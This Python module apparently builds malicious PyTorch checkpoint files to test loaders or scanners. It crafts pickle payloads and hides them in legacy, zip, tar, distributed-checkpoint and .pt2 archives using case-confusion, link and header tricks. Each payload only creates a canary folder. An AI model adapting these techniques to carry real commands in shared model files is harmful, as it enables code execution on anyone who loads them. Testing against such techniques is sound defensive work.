"""Files that run code, or eat memory, when the call that usually loads them reads them; the payload makes a folder."""

from __future__ import annotations

import functools
import io
import os
import pickle
import pickletools
import tarfile
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch
import torch.distributed.checkpoint as dcp
from torch.distributed.checkpoint.format_utils import dcp_to_torch_save

STATE_DICT = {
    "bn.weight": torch.ones(3),
    "bn.bias": torch.zeros(3),
    "bn.running_mean": torch.zeros(3),
    "bn.running_var": torch.ones(3),
}
LEGACY_PARTS = ("magic", "protocol", "system", "object", "keys")


def payload(canary: Path) -> bytes:
    """The opcodes of a pickle that makes a folder and leaves nothing on the stack."""
    name = os.fsencode(canary)
    return b"\x80\x02cposix\nmkdir\nX" + len(name).to_bytes(4, "little") + name + b"\x85R0"


class MakesFolder:
    """An object whose pickle makes a folder."""

    def __init__(self, canary: Path) -> None:
        self.canary = canary

    def __reduce__(self) -> Any:
        return os.mkdir, (str(self.canary),)


def split_legacy(data: bytes) -> tuple[list[bytes], bytes]:
    """The five pickles of a legacy file, and the storages after them."""
    stream, parts = io.BytesIO(data), []
    for _ in LEGACY_PARTS:
        start = stream.tell()
        list(pickletools.genops(stream))
        parts.append(data[start : stream.tell()])
    return parts, data[stream.tell() :]


def save_legacy() -> bytes:
    buffer = io.BytesIO()
    torch.save(STATE_DICT, buffer, _use_new_zipfile_serialization=False)
    return buffer.getvalue()


def legacy(part: str) -> Callable[[Path, Path], Path]:
    """A legacy file with the payload before the value of one of its pickles."""

    def build(folder: Path, canary: Path) -> Path:
        parts, storages = split_legacy(save_legacy())
        number = LEGACY_PARTS.index(part)
        parts[number] = payload(canary) + parts[number][2:]
        path = folder / "legacy.pth"
        path.write_bytes(b"".join(parts) + storages)
        return path

    return build


def legacy_class_outside(folder: Path, canary: Path) -> Path:
    """What stands where a file of torch before 1.6 puts the class of a module is called, whatever it is."""
    parts, storages = split_legacy(save_legacy())
    name = os.fsencode(canary)
    outside = b"\x80\x02(X\x06\0\0\0modulecposix\nmkdir\nNNtQ"
    parts[3] = outside + b"X" + len(name).to_bytes(4, "little") + name + b"\x85R0" + parts[3][2:]
    path = folder / "legacy.pth"
    path.write_bytes(b"".join(parts) + storages)
    return path


def legacy_shard(folder: Path, canary: Path) -> Path:
    path = legacy("system")(folder, canary)
    names = ", ".join(f'"{name}": "{path.name}"' for name in STATE_DICT)
    index = folder / "pytorch_model.bin.index.json"
    index.write_text(f'{{"metadata": {{}}, "weight_map": {{{names}}}}}')
    return index


def zip_by_case(folder: Path, canary: Path) -> Path:
    """Two records whose names differ by case; which one torch reads depends on how its directory is sorted."""
    buffer = io.BytesIO()
    torch.save(STATE_DICT, buffer)
    source = zipfile.ZipFile(buffer)
    evil = payload(canary) + b"}."
    for count in range(10):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as archive:
            archive.writestr("archive/DATA.PKL", evil)
            for name in source.namelist():
                archive.writestr(name, source.read(name))
            for number in range(count):
                archive.writestr(f"archive/a{number}", b"")
        if torch._C.PyTorchFileReader(io.BytesIO(out.getvalue())).get_record("data.pkl") == evil:
            break
    path = folder / "case.pt"
    path.write_bytes(out.getvalue())
    return path


def zip_in_capitals(folder: Path, canary: Path) -> Path:
    """The only pickle of the archive under a name that torch finds all the same."""
    path = folder / "capitals.pt"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("archive/Data.pkl", payload(canary) + b"}.")
        archive.writestr("archive/version", "3\n")
    return path


def tar(add: Callable[[tarfile.TarFile, bytes], None], *, first: bytes | None = None) -> Callable[[Path, Path], Path]:
    """A harmless tar file of torch.save, and what is added to it."""
    zero = pickle.dumps(0, 2)
    good = {"storages": zero + pickle.dumps([], 2), "tensors": zero, "pickle": first or pickle.dumps({}, 2)}

    def build(folder: Path, canary: Path) -> Path:
        path = folder / "old.pth"
        with tarfile.open(path, "w", format=tarfile.PAX_FORMAT) as archive:
            for name, data in good.items():
                add_member(archive, name, data)
            add(archive, payload(canary) + b"}.")
        return path

    return build


def add_member(archive: tarfile.TarFile, name: str, data: bytes = b"", **facts: Any) -> None:
    info = tarfile.TarInfo(name)
    info.size = len(data)
    for fact, value in facts.items():
        setattr(info, fact, value)
    archive.addfile(info, io.BytesIO(data))


def _add_link(archive: tarfile.TarFile, evil: bytes, kind: bytes) -> None:
    add_member(archive, "other", evil)
    add_member(archive, "pickle", type=kind, linkname="other")


def tar_and_pickle(folder: Path, canary: Path) -> Path:
    """A legacy file whose first block is a header of a tar archive, too: torch.load tries tar first."""
    legacy_data = save_legacy()
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        add_member(archive, "x", legacy_data[512:])
        zero = pickle.dumps(0, 2)
        for name, data in (("storages", zero + pickle.dumps([], 2)), ("tensors", zero)):
            add_member(archive, name, data)
        add_member(archive, "pickle", payload(canary) + b"}.")
    block = bytearray(buffer.getvalue()[:512])
    block[:100] = b"\x80\x02\x8a\x0a" + 0x1950A86A20F9469CFC6C.to_bytes(10, "little") + b"." + bytes(85)
    block[148:156] = b" " * 8
    block[148:156] = b"%06o\0 " % sum(block)
    path = folder / "two.pth"
    path.write_bytes(bytes(block) + buffer.getvalue()[512:])
    return path


def distributed(change: Callable[[Any], None], *, evil: str = "extra") -> Callable[[Path, Path], Path]:
    """A folder of torch.distributed.checkpoint with one evil object, and something done to its metadata."""

    def build(folder: Path, canary: Path) -> Path:
        place = folder / "distributed"
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            dcp.save({"model": STATE_DICT, evil: MakesFolder(canary)}, checkpoint_id=place, no_dist=True)
        metadata = pickle.loads((place / ".metadata").read_bytes())
        change(metadata)
        (place / ".metadata").write_bytes(pickle.dumps(metadata))
        return place

    return build


def _transform(value: Any, metadata: Any) -> None:
    for index, place in metadata.storage_data.items():
        if index.fqn == "extra":
            object.__setattr__(place, "transform_descriptors", value)


class _NamedByCall(str):
    """A text that is pickled as a call of str, so that it does not stand in the pickle as a text."""

    __slots__ = ()

    def __reduce__(self) -> Any:
        return str, (self.encode(), "utf-8")


def _rename_by_call(metadata: Any) -> None:
    kept = metadata.state_dict_metadata.pop("extra")
    metadata.state_dict_metadata[_NamedByCall("extra")] = kept


def pickled(opcodes: Callable[[Path], bytes]) -> Callable[[Path, Path], Path]:
    """A zip of torch.save with another pickle."""

    def build(folder: Path, canary: Path) -> Path:
        path = folder / "pickle.pt"
        with zipfile.ZipFile(path, "w") as archive:
            archive.writestr("archive/data.pkl", opcodes(canary))
            archive.writestr("archive/version", "3\n")
        return path

    return build


def _call_partial(canary: Path) -> bytes:
    """``functools.partial(os.mkdir, canary)()``."""
    return pickle.dumps(functools.partial(os.mkdir, str(canary)), 2)[:-1] + b")R."


def exported(record: str) -> Callable[[Path, Path], Path]:
    """A ``.pt2`` archive with an evil file of torch.save in the place of one that its loader unpickles."""

    def build(folder: Path, canary: Path) -> Path:
        program = torch.export.export(torch.nn.BatchNorm1d(3).eval(), (torch.ones(2, 3),))
        torch.export.save(program, folder / "good.pt2")
        evil = io.BytesIO()
        torch.save({"x": MakesFolder(canary)}, evil)
        path = folder / "evil.pt2"
        with zipfile.ZipFile(folder / "good.pt2") as source, zipfile.ZipFile(path, "w") as archive:
            for name in source.namelist():
                archive.writestr(name, evil.getvalue() if record in name else source.read(name))
        return path

    return build


def load_exported(path: Path) -> None:
    torch.export.load(path)


def load_torch(path: Path) -> None:
    if path.suffix == ".json":
        path = path.parent / "legacy.pth"
    torch.load(path, weights_only=False)


def load_distributed(path: Path) -> None:
    dcp_to_torch_save(path, path / "out.pt")


ATTACKS: dict[str, tuple[Callable[[Path, Path], Path], Callable[[Path], None]]] = {
    **{f"legacy {part}": (legacy(part), load_torch) for part in LEGACY_PARTS},
    "legacy class outside": (legacy_class_outside, load_torch),
    "legacy shard": (legacy_shard, load_torch),
    "zip by case": (zip_by_case, load_torch),
    "zip in capitals": (zip_in_capitals, load_torch),
    "tar of type 7": (tar(lambda t, evil: add_member(t, "pickle", evil, type=tarfile.CONTTYPE)), load_torch),
    "tar of an unknown type": (tar(lambda t, evil: add_member(t, "pickle", evil, type=b"Z")), load_torch),
    "tar hard link": (tar(lambda t, evil: _add_link(t, evil, tarfile.LNKTYPE)), load_torch),
    "tar symbolic link": (tar(lambda t, evil: _add_link(t, evil, tarfile.SYMTYPE)), load_torch),
    "tar pax path": (tar(lambda t, evil: add_member(t, "other", evil, pax_headers={"path": "pickle"})), load_torch),
    "tar of one name twice": (tar(lambda t, evil: add_member(t, "pickle", evil)), load_torch),
    "tar and pickle": (tar_and_pickle, load_torch),
    "distributed": (distributed(lambda _: None), load_distributed),
    "distributed transformed by {}": (distributed(functools.partial(_transform, {})), load_distributed),
    "distributed transformed by 0": (distributed(functools.partial(_transform, 0)), load_distributed),
    "distributed transformed by ''": (distributed(functools.partial(_transform, "")), load_distributed),
    "distributed name by call": (distributed(_rename_by_call), load_distributed),
    "exported example inputs": (exported("/data/sample_inputs/"), load_exported),
    "partial called": (pickled(_call_partial), load_torch),
}
